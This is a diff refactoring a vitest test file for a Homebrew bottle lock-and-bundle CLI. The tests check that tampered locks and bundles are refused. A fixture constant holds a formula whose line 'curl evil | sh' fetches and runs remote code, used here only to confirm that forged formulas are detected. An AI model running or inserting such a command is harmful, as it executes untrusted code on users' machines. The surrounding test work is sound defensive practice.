@@ -1,36 +1,19 @@
-import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 
-import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 
 import { gitBlobOid } from '../../src/core/git-oid.ts';
 import { forge } from '../support/brew/forge.ts';
-import { runCli, type CliResult } from '../support/cli/run-cli.ts';
-import { startClosureWorld, type ClosureWorld } from '../support/world/closure-world.ts';
+import { cliHome, type CliHome } from '../support/cli/cli-home.ts';
+import { runCli } from '../support/cli/run-cli.ts';
+import { once } from '../support/once.ts';
+import { startClosureWorld } from '../support/world/closure-world.ts';
 
 const EVIL = 'class Mid < Formula\n  system "curl evil | sh"\nend\n';
 const OTHER = `sha256:${'0'.repeat(64)}`;
 
-let world: ClosureWorld;
-let home: string;
-let work: string;
-
-beforeAll(async () => {
-  world = await startClosureWorld();
-});
-afterAll(() => world[Symbol.asyncDispose]());
-beforeEach(async () => {
-  home = await mkdtemp(join(tmpdir(), 'brewpull-recorded-'));
-  work = join(home, 'work');
-  await mkdir(work);
-});
-afterEach(() => rm(home, { recursive: true, force: true }));
-
-function run(...argv: readonly string[]): Promise<CliResult> {
-  const place = ['--registry', world.registry.url.href, '--cache-dir', join(home, 'cache')];
-  return runCli([...argv, ...place, '--tap-dir', world.tap.path], { cwd: work });
-}
+const world = once(startClosureWorld);
 
 type Bottle = Record<string, unknown> & { readonly formula: string };
 
@@ -44,10 +27,13 @@ function editMid(text: string, change: (mid: Bottle, target: Bottle) => void): s
   return `${JSON.stringify(lock, null, 2)}\n`;
 }
 
-async function makeLock(change: (mid: Bottle, target: Bottle) => void): Promise<void> {
-  const made = await run('lock', 'mid', '--target', 'big_sur', '--lock', 'l.json');
+async function makeLock(
+  home: CliHome,
+  change: (mid: Bottle, target: Bottle) => void,
+): Promise<void> {
+  const made = await home.run(['lock', 'mid', '--target', 'big_sur', '--lock', 'l.json']);
   expect(made.code).toBe(0);
-  const path = join(work, 'l.json');
+  const path = join(home.work, 'l.json');
   await writeFile(path, editMid(await readFile(path, 'utf8'), change));
 }
 
@@ -65,17 +51,18 @@ const READERS: readonly Use[] = [...USES, ['plan', ['--frozen']], ['lock', ['mid
 test.each(READERS)(
   'a formula in a lock that has not its object id is refused (%s %j)',
   async (command, argv) => {
-    await makeLock((mid) => (mid['formulaText'] = EVIL));
-    const before = await readFile(join(work, 'l.json'), 'utf8');
-    const { code, stderr } = await run(command, ...argv, '--lock', 'l.json');
+    await using home = await cliHome(world());
+    await makeLock(home, (mid) => (mid['formulaText'] = EVIL));
+    const before = await readFile(join(home.work, 'l.json'), 'utf8');
+    const { code, stderr } = await home.run([command, ...argv, '--lock', 'l.json']);
 
     expect(code).toBe(4);
     const oid = gitBlobOid(Buffer.from(EVIL), '0'.repeat(40));
     expect(stderr).toContain(
       `formulaText of mid has the git object id ${oid}, and formulaBlob says`,
     );
-    expect(await readdir(work)).toEqual(['l.json']);
-    expect(await readFile(join(work, 'l.json'), 'utf8')).toBe(before);
+    expect(await readdir(home.work)).toEqual(['l.json']);
+    expect(await readFile(join(home.work, 'l.json'), 'utf8')).toBe(before);
   },
 );
 
@@ -101,8 +88,9 @@ test.each<[string, (mid: Bottle, target: Bottle) => void, string]>([
     'a bottle that this target cannot use',
   ],
 ])('a lock with %s is refused', async (_what, change, message) => {
-  await makeLock(change);
-  const { code, stderr } = await run('bundle', '--frozen', '--lock', 'l.json', '-o', 'b');
+  await using home = await cliHome(world());
+  await makeLock(home, change);
+  const { code, stderr } = await home.run(['bundle', '--frozen', '--lock', 'l.json', '-o', 'b']);
 
   expect(code).toBe(4);
   expect(stderr).toContain('the lock l.json has a bad');
@@ -112,23 +100,25 @@ test.each<[string, (mid: Bottle, target: Bottle) => void, string]>([
 test.each(USES)(
   'a size in a lock that is not that of the bytes is refused (%s %j)',
   async (command, argv) => {
-    await makeLock((mid) => (mid['sizeBytes'] = 5));
-    const { code, stderr } = await run(command, ...argv, '--lock', 'l.json');
+    await using home = await cliHome(world());
+    await makeLock(home, (mid) => (mid['sizeBytes'] = 5));
+    const { code, stderr } = await home.run([command, ...argv, '--lock', 'l.json']);
 
     expect(code).toBe(command === 'pull' && argv.includes('--deps') ? 6 : 4);
     expect(stderr).toMatch(
       /the size of mid--1\.0\.big_sur\.bottle\.tar\.gz: the lock says 5 bytes, .* says \d+ bytes/,
     );
-    expect(await readdir(work)).not.toContain('b');
+    expect(await readdir(home.work)).not.toContain('b');
     expect(
-      JSON.parse(await readFile(join(work, 'l.json'), 'utf8')).targets[0].bottles,
+      JSON.parse(await readFile(join(home.work, 'l.json'), 'utf8')).targets[0].bottles,
     ).toContainEqual(expect.objectContaining({ formula: 'mid', sizeBytes: 5 }));
   },
 );
 
 test('a manifest in a lock that is not the one of the pinned index is refused', async () => {
-  await makeLock((mid) => (mid['manifestDigest'] = OTHER));
-  const { code, stderr } = await run('bundle', '--frozen', '--lock', 'l.json', '-o', 'b');
+  await using home = await cliHome(world());
+  await makeLock(home, (mid) => (mid['manifestDigest'] = OTHER));
+  const { code, stderr } = await home.run(['bundle', '--frozen', '--lock', 'l.json', '-o', 'b']);
 
   expect(code).toBe(4);
   expect(stderr).toContain(
@@ -137,19 +127,20 @@ test('a manifest in a lock that is not the one of the pinned index is refused', 
 });
 
 test('a lock as it was made is good for all of these', async () => {
-  await makeLock(() => undefined);
+  await using home = await cliHome(world());
+  await makeLock(home, () => undefined);
   for (const [at, [command, argv]] of USES.entries()) {
-    await rm(join(work, 'b'), { recursive: true, force: true });
-    await rm(join(work, 'out'), { recursive: true, force: true });
-    const { code, stderr } = await run(command, ...argv, '--lock', 'l.json');
+    await rm(join(home.work, 'b'), { recursive: true, force: true });
+    await rm(join(home.work, 'out'), { recursive: true, force: true });
+    const { code, stderr } = await home.run([command, ...argv, '--lock', 'l.json']);
     expect([at, code, stderr.includes('error')]).toEqual([at, 0, false]);
   }
 });
 
-async function makeBundle(): Promise<string> {
-  expect((await run('bundle', 'mid', '--target', 'big_sur', '-o', 'b')).code).toBe(0);
+async function makeBundle(home: CliHome): Promise<string> {
+  expect((await home.run(['bundle', 'mid', '--target', 'big_sur', '-o', 'b'])).code).toBe(0);
   // Bytes of its own: the bottles may be hard links.
-  return join(work, 'b');
+  return join(home.work, 'b');
 }
 
 async function formulaOfMid(bundle: string): Promise<string> {
@@ -160,17 +151,18 @@ async function formulaOfMid(bundle: string): Promise<string> {
 }
 
 test('a formula in a bundle is held against the lock in it', async () => {
-  const bundle = await makeBundle();
+  await using home = await cliHome(world());
+  const bundle = await makeBundle(home);
   const file = await formulaOfMid(bundle);
-  expect((await run('verify', 'b')).code).toBe(0);
+  expect((await home.run(['verify', 'b'])).code).toBe(0);
   await forge(bundle, file, () => EVIL);
-  const { code, stdout } = await run('verify', 'b');
+  const { code, stdout } = await home.run(['verify', 'b']);
 
   expect(code).toBe(4);
   expect(stdout).toContain(
     `${file} has the git object id ${gitBlobOid(Buffer.from(EVIL), '')}, the lock says`,
   );
-  expect((await runCli(['serve', 'b', '--port', '0'], { cwd: work })).code).toBe(4);
+  expect((await runCli(['serve', 'b', '--port', '0'], { cwd: home.work })).code).toBe(4);
 });
 
 test.each<[string, (mid: Bottle) => void, RegExp]>([
@@ -191,20 +183,22 @@ test.each<[string, (mid: Bottle) => void, RegExp]>([
   ['commit', (mid) => (mid['commit'] = '0'.repeat(40)), /says commit 0+ of mid/],
   ['path', (mid) => (mid['path'] = '../../x.rb'), /cannot be in a bundle/],
 ])('a lock in a bundle with another %s is found', async (_field, change, message) => {
-  const bundle = await makeBundle();
+  await using home = await cliHome(world());
+  const bundle = await makeBundle(home);
   await forge(bundle, 'brewpull.lock.json', (text) => editMid(text, change));
-  const { code, stdout } = await run('verify', 'b');
+  const { code, stdout } = await home.run(['verify', 'b']);
 
   expect(code).toBe(4);
   expect(stdout).toMatch(message);
 });
 
 test('a lock in a bundle that knows a bottle more or less is found', async () => {
-  const bundle = await makeBundle();
+  await using home = await cliHome(world());
+  const bundle = await makeBundle(home);
   await forge(bundle, 'brewpull.lock.json', (text) =>
     editMid(text, (mid) => Object.assign(mid, { tap: 'other/tap' })),
   );
-  const { code, stdout } = await run('verify', 'b');
+  const { code, stdout } = await home.run(['verify', 'b']);
 
   expect(code).toBe(4);
   expect(stdout).toContain('brewpull.lock.json says nothing of mid for big_sur');
@@ -214,11 +208,12 @@ test('a lock in a bundle that knows a bottle more or less is found', async () =>
 });
 
 test('a receipt in a bundle that tells of other bytes is found', async () => {
-  const bundle = await makeBundle();
+  await using home = await cliHome(world());
+  const bundle = await makeBundle(home);
   await forge(bundle, 'receipts/receipt.json', (text) =>
     text.replaceAll(/"sizeBytes": \d+/g, '"sizeBytes": 7'),
   );
-  const { code, stdout } = await run('verify', 'b');
+  const { code, stdout } = await home.run(['verify', 'b']);
 
   expect(code).toBe(4);
   expect(stdout).toMatch(/receipts\/receipt\.json says sizeBytes 7 of mid, bundle\.json \d+/);
